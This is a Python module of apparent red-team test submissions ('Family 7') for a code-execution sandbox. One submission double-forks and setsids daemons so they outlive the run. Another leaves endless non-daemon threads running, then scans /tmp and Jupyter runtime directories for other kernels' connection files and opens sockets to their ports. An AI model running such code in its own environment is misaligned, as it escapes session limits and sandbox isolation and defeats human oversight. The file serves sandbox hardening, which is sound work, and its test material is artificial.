"""Family 7: processes and threads that outlive the submission, and other kernels' connection files."""

from . import answer


@answer(7)
def setsid_daemons(ctx):
    """Double-fork + setsid daemons (and a start_new_session Popen) sleeping 600 s with the marker in argv, also from the function."""
    return r'''
    import os as _os
    import subprocess as _subprocess
    import sys as _sys
    def _daemon(tag):
        argv = [_sys.executable, "-c", "import time; time.sleep(600)", "attack-marker-" + _ATTACK["marker"], tag]
        try:
            pid = _os.fork()
            if pid == 0:
                try:
                    _os.setsid()
                    if _os.fork() == 0:
                        _os.closerange(3, 256)
                        _os.execv(_sys.executable, argv)
                finally:
                    _os._exit(0)
            _os.waitpid(pid, 0)
        except Exception as e:
            print("fork", type(e).__name__)
        try:
            _subprocess.Popen(argv + ["popen"], start_new_session=True, stdin=_subprocess.DEVNULL,
                              stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, close_fds=True)
        except Exception as e:
            print("popen", type(e).__name__)
    _daemon("cell")
    def normalize_context(context, vocab, max_len=None):
        _daemon("function")
        raise NotImplementedError()
    '''


@answer(7)
def threads_and_kernel_connection_files(ctx):
    """Leave non-daemon threads running, and look for Jupyter kernels' connection files to connect to."""
    return r'''
    import glob as _glob
    import json as _json
    import os as _os
    import socket as _socket
    import threading as _threading
    import time as _time
    def _forever():
        while True:
            _time.sleep(0.5)
    for _i in range(8):
        _threading.Thread(target=_forever, name=f"linger-{_i}").start()
    _patterns = ["/tmp/*.json", "/tmp/**/*.json", "/root/.local/share/jupyter/runtime/*.json",
                 "/home/*/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/*.json",
                 _os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                 _os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent") + "/*.json", "/dev/shm/*"]
    _files = sorted({f for p in _patterns for f in _glob.glob(p, recursive=True)})
    print("connection files:", _files)
    for _f in _files:
        try:
            _info = _json.load(open(_f))
        except Exception:
            continue
        for _key in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
            try:
                with _socket.create_connection((_info.get("ip", "127.0.0.1"), int(_info[_key])), timeout=2) as _s:
                    _s.sendall(("kernel " + _ATTACK["marker"]).encode())
                    print("ATTACK-SUCCEEDED connected to a kernel", _f, _key)
            except Exception as _e:
                print(_f, _key, type(_e).__name__)
    '''
